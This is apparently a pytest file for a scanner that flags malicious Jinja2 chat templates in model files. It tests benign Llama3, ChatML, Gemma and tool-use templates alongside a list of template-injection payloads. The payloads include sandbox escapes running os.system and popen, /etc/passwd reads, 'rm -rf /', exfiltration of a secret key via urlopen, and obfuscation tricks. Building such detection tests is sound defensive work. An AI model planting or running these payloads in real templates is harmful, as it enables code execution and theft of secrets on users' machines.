"""Chat templates outside GGUF files: ``chat_template.jinja`` (as recent transformers save it),
any ``.jinja``/``.j2`` file, and YAML/JSON configs with a ``chat_template`` key are judged by the
same syntax-tree check, without rendering anything.

The hostile set holds every payload of modelaudit's Jinja2 test assets (its
``generate_jinja2_test_assets.py``: CVE-2024-34359, ``|attr`` chains, hex-escaped names,
``request``/``config`` globals, ``cycler``/``joiner``/``namespace``/``lipsum`` globals) and
further ways to hide a name (``%c`` codes, ``{% set %}`` blocks, loop variables, slices). The
benign set is four realistic chat templates, each rendered here in jinja2's sandbox to show it
works, and judged safe.
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from pathlib import Path

import pytest
import yaml
from jinja2.sandbox import ImmutableSandboxedEnvironment

from trainguard import Verdict, scan_file
from trainguard.findings import FileResult

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)
CHATML = """{%- if messages[0]['role'] == 'system' %}
    {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}
{%- else %}
    {{- '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}
{%- endif %}
{%- for message in messages %}
    {%- if message['role'] != 'system' %}
        {{- '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""
GEMMA = """{{ bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- set first_user_prefix = messages[0]['content'] + '\\n\\n' -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}
    {%- set first_user_prefix = "" -%}
    {%- set loop_messages = messages -%}
{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}
        {{ raise_exception("Conversation roles must alternate user/assistant/user/assistant/...") }}
    {%- endif -%}
    {%- if message['role'] == 'assistant' -%}{%- set role = "model" -%}
    {%- else -%}{%- set role = message['role'] -%}{%- endif -%}
    {{ '<start_of_turn>' + role + '\\n' + (first_user_prefix if loop.first else "") }}
    {%- if message['content'] is string -%}
        {{ message['content'] | trim }}
    {%- elif message['content'] is iterable -%}
        {%- for item in message['content'] -%}
            {%- if item['type'] == 'image' -%}{{ '<start_of_image>' }}
            {%- elif item['type'] == 'text' -%}{{ item['text'] | trim }}{%- endif -%}
        {%- endfor -%}
    {%- else -%}
        {{ raise_exception("Invalid content type") }}
    {%- endif -%}
    {{ '<end_of_turn>\\n' }}
{%- endfor -%}
{%- if add_generation_prompt -%}{{ '<start_of_turn>model\\n' }}{%- endif -%}
"""
TOOLS = """{%- if messages[0]["role"] == "system" %}
    {%- set system_message = messages[0]["content"] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set loop_messages = messages %}
{%- endif %}
{%- if not tools is defined %}{%- set tools = none %}{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}
{%- set ns = namespace(index=0) %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or message.tool_calls is defined) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}
            {{- raise_exception("Conversation roles must alternate user/assistant/...") }}
        {%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
{%- endfor %}
{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS] [" }}
            {%- for tool in tools %}
                {%- set tool = tool.function %}
                {{- '{"type": "function", "function": {' }}
                {%- for key, val in tool.items() if key != "return" %}
                    {%- if val is string %}{{- '"' + key + '": "' + val + '"' }}
                    {%- else %}{{- '"' + key + '": ' + val|tojson }}{%- endif %}
                    {%- if not loop.last %}{{- ", " }}{%- endif %}
                {%- endfor %}
                {{- "}}" }}
                {%- if not loop.last %}{{- ", " }}{%- else %}{{- "]" }}{%- endif %}
            {%- endfor %}
            {{- "[/AVAILABLE_TOOLS]" }}
        {%- endif %}
        {%- if loop.last and system_message is defined %}
            {{- "[INST] " + system_message + "\\n\\n" + message["content"] + "[/INST]" }}
        {%- else %}
            {{- "[INST] " + message["content"] + "[/INST]" }}
        {%- endif %}
    {%- elif message.tool_calls is defined and message.tool_calls is not none %}
        {{- "[TOOL_CALLS] [" }}
        {%- for tool_call in message.tool_calls %}
            {%- set out = tool_call.function|tojson %}
            {{- out[:-1] }}
            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}
                {{- raise_exception("Tool call IDs must be alphanumeric, of length 9!") }}
            {%- endif %}
            {{- ', "id": "' + tool_call.id + '"}' }}
            {%- if not loop.last %}{{- ", " }}{%- else %}{{- "]" + eos_token }}{%- endif %}
        {%- endfor %}
    {%- elif message["role"] == "assistant" %}
        {{- " " + message["content"]|trim + eos_token }}
    {%- elif message["role"] == "tool" %}
        {{- '[TOOL_RESULTS] {"content": ' + message.content|string + ", " }}
        {{- '"call_id": "' + message.tool_call_id + '"}[/TOOL_RESULTS]' }}
    {%- else %}
        {{- raise_exception("Only user, assistant and tool roles are supported!") }}
    {%- endif %}
{%- endfor %}
"""


HOSTILE: dict[str, str] = {
    # modelaudit's malicious/obfuscated/edge/standalone/yaml assets
    "cve_2024_34359": (
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c"
        ".__name__ == 'catch_warnings' %}{{ c()._module"
        ".__builtins__['__import__']('os').system('touch /tmp/x') }}{% "
        "endif %}{% endfor %}"
    ),
    "direct_eval": (
        '{{ __builtins__[\'eval\'](\'__import__("subprocess").call(["echo", "x"])\') }}'
    ),
    "file_access": "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
    "env_extraction": (
        "{{ self.__init__.__globals__['__builtins__']['__import__']('os').environ }}"
    ),
    "subprocess_injection": "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "config_exploit": (
        "{{ config.__class__.__base__.__subclasses__()[104].__init__"
        ".__globals__['sys'].modules['subprocess'].call(['id']) }}"
    ),
    "request_exploit": (
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"
    ),
    "loop_discovery": (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if "
        '"warning" in x.__name__ %}{{ x()._module'
        ".__builtins__['__import__']('os').popen(\"ls\").read() }}{% endif "
        "%}{% endfor %}"
    ),
    "hex_bypass": (
        "{{ "
        "request['application']['\\x5f\\x5fglobals\\x5f\\x5f']"
        "['\\x5f\\x5fbuiltins\\x5f\\x5f']['eval']('1') "
        "}}"
    ),
    "attr_bypass": (
        "{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)"
        "|attr('__subclasses__')()|attr('__getitem__')(40) }}"
    ),
    "combined_attack": (
        "{% set x = cycler.__init__.__globals__ %}{{ x.os.system('echo ' + "
        "x.__builtins__.__import__('os').environ.get('USER', 'unknown')) }}"
    ),
    "network_exfil": (
        "{{ joiner.__init__.__globals__.__builtins__.__import__('urllib"
        ".request').urlopen('http://e/?d=' + config.SECRET_KEY).read() }}"
    ),
    "char_construction": (
        "{{ ().__class__.__bases__[0].__subclasses__()[59].__init__"
        ".__globals__[''.join([chr(95), chr(95), chr(98), chr(95), "
        "chr(95)])] }}"
    ),
    "base64_payload": "{{ __builtins__.__import__('base64').b64decode('X19p').decode() }}",
    "format_bypass": "{{ '{}'.format(cycler.__init__.__globals__.os.system('id')) }}",
    "getattr_bypass": (
        "{{ getattr(getattr(getattr('', '__class__'), '__mro__')[1], "
        "'__subclasses__')()[40]('/etc/hosts').read() }}"
    ),
    "custom_template": "{{ self.__init__.__globals__['os'].system('echo evil') }}",
    "standalone": (
        "{% for message in messages %}\n{{ message.role }}: {{ message"
        ".content }}\n{% endfor %}\n{# x #}\n{{ cycler.__init__.__globals__.os"
        ".system('whoami') }}"
    ),
    "yaml_config": "{{ config.__class__.__init__.__globals__['os'].system('rm -rf /') }}",
    # task list and further bypasses
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "template_reference": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "joiner": "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "namespace": "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "attr_hex": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "attr_unicode": "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    "attr_joined": "{{ ()|attr(['_'*2,'class','_'*2]|join) }}",
    "attr_dict_join": "{{ ()|attr(dict(__cla=1,ss__=1)|join) }}",
    "attr_request": "{{ ()|attr(request.args.c) }}",
    "config_items": "{{ config.items() }}",
    "request_environ": "{{ request.environ }}",
    "percent_c": "{{ ()['%c%cclass%c%c' % (95,95,95,95)] }}",
    "format_filter_c": "{{ ()['%c%cclass%c%c'|format(95,95,95,95)] }}",
    "setblock": "{% set n %}__class__{% endset %}{{ ()[n] }}",
    "for_bound": "{% for n in ['%c%cclass%c%c'|format(95,95,95,95)] %}{{ ()[n] }}{% endfor %}",
    "with_bound": "{% with n = '__cla' ~ 'ss__' %}{{ ()[n] }}{% endwith %}",
    "slice": "{{ ()['xx__class__'[2:]] }}",
    "macro_param": (
        "{% macro m(a) %}{{ ()[a] }}{% endmacro %}{{ m('%c%cclass%c%c' % (95,95,95,95)) }}"
    ),
    "catch_warnings_module": "{{ x()._module.sys }}",
    "getattribute": "{{ ()|attr('__getattribute__')('__class__') }}",
    "tojson_globals": "{{ lipsum|attr('__globals__')|tojson }}",
    "import_tag": "{% import 'os' as os %}",
    "from_import": "{% from 'x' import y %}",
    "extends": "{% extends 'base' %}",
    "url_for": "{{ url_for.__globals__['current_app'] }}",
    "self_ref": "{{ self._TemplateReference__context }}",
    "loop_cycle": "{{ loop.cycle.__globals__ }}",
    "range_init": "{{ range.__init__ }}",
    "replace_name": "{{ ()['_-_class_-_'|replace('-', '_')] }}",
    "map_attr": "{{ messages|map('attr', '__class__')|list }}",
}


BENIGN = {"llama3": LLAMA3, "chatml": CHATML, "gemma": GEMMA, "tools": TOOLS}
MESSAGES = [
    {"role": "system", "content": "Be brief."},
    {"role": "user", "content": "Weather in Oslo?"},
    {"role": "assistant", "content": "Let me check."},
    {"role": "user", "content": "Thanks."},
]
TOOL_SPECS = [{"type": "function", "function": {"name": "weather", "parameters": {}}}]


def rules(res: FileResult) -> set[str]:
    return {f.rule.value for f in res.findings}


def write_as(kind: str, folder: Path, template: str) -> Path:
    """The template saved the way ``kind`` names a place that a chat renderer reads."""
    if kind == "chat_template.jinja":
        p = folder / "chat_template.jinja"
        p.write_text(template, encoding="utf-8")
    elif kind == "j2":
        p = folder / "prompt.j2"
        p.write_text(template, encoding="utf-8")
    elif kind == "tokenizer_config.json":
        p = folder / "tokenizer_config.json"
        p.write_text(json.dumps({"tokenizer_class": "X", "chat_template": template}))
    elif kind == "named_list":
        p = folder / "tokenizer_config.json"
        named = [
            {"name": "default", "template": CHATML},
            {"name": "tool_use", "template": template},
        ]
        p.write_text(json.dumps({"chat_template": named}, indent=2))
    elif kind == "chat_template.json":
        p = folder / "chat_template.json"
        p.write_text(json.dumps({"chat_template": template}, indent=2))
    elif kind == "yaml":
        p = folder / "model_config.yaml"
        # "model" first: a text file opening with "c" also reads as a protocol-0 pickle
        p.write_text(yaml.safe_dump({"model": "m", "chat_template": template}, sort_keys=False))
    elif kind == "yaml_custom_key":
        p = folder / "serve.yml"
        doc = {"model": "m", "custom_chat_template": template}
        p.write_text(yaml.safe_dump(doc, sort_keys=False))
    else:
        raise AssertionError(kind)
    return p


KINDS = [
    "chat_template.jinja",
    "j2",
    "tokenizer_config.json",
    "named_list",
    "chat_template.json",
    "yaml",
    "yaml_custom_key",
]


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_templates_render(name: str) -> None:
    env = ImmutableSandboxedEnvironment(
        extensions=["jinja2.ext.loopcontrols"], trim_blocks=True, lstrip_blocks=True
    )

    def raise_exception(message: str) -> None:
        raise ValueError(message)

    env.globals["raise_exception"] = raise_exception
    out = env.from_string(BENIGN[name]).render(
        messages=MESSAGES, tools=TOOL_SPECS, bos_token="<s>", eos_token="</s>",
        add_generation_prompt=True,
    )  # fmt: skip
    assert "Weather in Oslo?" in out


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_templates_are_safe(tmp_path: Path, kind: str, name: str) -> None:
    res = scan_file(write_as(kind, tmp_path, BENIGN[name]))
    assert res.verdict is Verdict.SAFE, res.findings
    assert not res.findings


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_standalone_templates_are_unsafe(tmp_path: Path, name: str) -> None:
    res = scan_file(write_as("chat_template.jinja", tmp_path, HOSTILE[name]))
    assert res.verdict is Verdict.UNSAFE, (name, res.findings)
    assert rules(res) == {"scan.template_injection"}


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_template_found_in_every_place(tmp_path: Path, kind: str) -> None:
    res = scan_file(write_as(kind, tmp_path, HOSTILE["subprocess_injection"]))
    assert res.verdict is Verdict.UNSAFE
    assert rules(res) == {"scan.template_injection"}
    assert any("__globals__" in str(f.evidence) for f in res.findings)


def test_template_is_never_rendered(tmp_path: Path) -> None:
    marker = tmp_path / "rendered"
    body = "{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}"
    for kind in KINDS:
        assert scan_file(write_as(kind, tmp_path, body)).verdict is Verdict.UNSAFE
    assert not marker.exists()


def test_template_inside_an_archive_is_judged_by_its_member_name(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("model/chat_template.jinja", HOSTILE["lipsum"])
        zf.writestr("model/README.md", HOSTILE["lipsum"])  # prose: no renderer reads it
    p = tmp_path / "model.zip"
    p.write_bytes(buf.getvalue())
    res = scan_file(p)
    assert res.verdict is Verdict.UNSAFE
    assert {f.location.member for f in res.findings} == {"model/chat_template.jinja"}


def test_compressed_template_keeps_its_name(tmp_path: Path) -> None:
    p = tmp_path / "chat_template.jinja.gz"
    p.write_bytes(gzip.compress(HOSTILE["mro"].encode()))
    assert scan_file(p).verdict is Verdict.UNSAFE


def test_text_not_named_as_a_template_is_not_judged(tmp_path: Path) -> None:
    p = tmp_path / "notes.md"
    p.write_text("SSTI payloads look like {{ ''.__class__.__mro__ }}; see CVE-2024-34359.\n")
    assert scan_file(p).verdict is Verdict.SAFE


def test_chat_template_key_in_a_text_file_is_judged(tmp_path: Path) -> None:
    p = tmp_path / "serve_config"  # YAML without the suffix, found by its key
    p.write_text('port: 8000\nchat_template: "{{ config.items() }}"\n')
    res = scan_file(p)
    assert res.verdict is Verdict.UNSAFE and rules(res) == {"scan.template_injection"}


def test_unparseable_template_is_suspicious_not_safe(tmp_path: Path) -> None:
    p = tmp_path / "chat_template.jinja"
    p.write_text("{% for m in messages %}{{ m['content'] }")
    res = scan_file(p)
    assert res.verdict is Verdict.SUSPICIOUS
    assert "cannot be parsed" in res.findings[0].message


def test_oversized_template_is_not_passed(tmp_path: Path) -> None:
    from trainguard.scan.templates import MAX_TEMPLATE

    p = tmp_path / "chat_template.jinja"
    p.write_text("{{ messages }}" + " " * MAX_TEMPLATE)
    assert scan_file(p).verdict is Verdict.SUSPICIOUS


def test_unparseable_yaml_with_a_template_key_is_suspicious(tmp_path: Path) -> None:
    p = tmp_path / "config.yaml"
    p.write_text("model: m\nchat_template: [unclosed\n  - {\n")
    res = scan_file(p)
    assert res.verdict is Verdict.SUSPICIOUS
    assert any("not judged" in f.message for f in res.findings)


def test_yaml_alias_bomb_is_bounded(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 12)]
    p = tmp_path / "config.yaml"
    p.write_text("\n".join(lines) + "\nchat_template: *a11\n")
    assert scan_file(p).verdict is Verdict.SAFE  # a list of lists is not a template


def test_names_bound_in_the_template_are_not_web_globals(tmp_path: Path) -> None:
    body = (
        "{% set config = {'sep': ': '} %}"
        "{% for m in messages %}{{ m.role ~ config.sep }}{% endfor %}"
    )
    assert scan_file(write_as("chat_template.jinja", tmp_path, body)).verdict is Verdict.SAFE
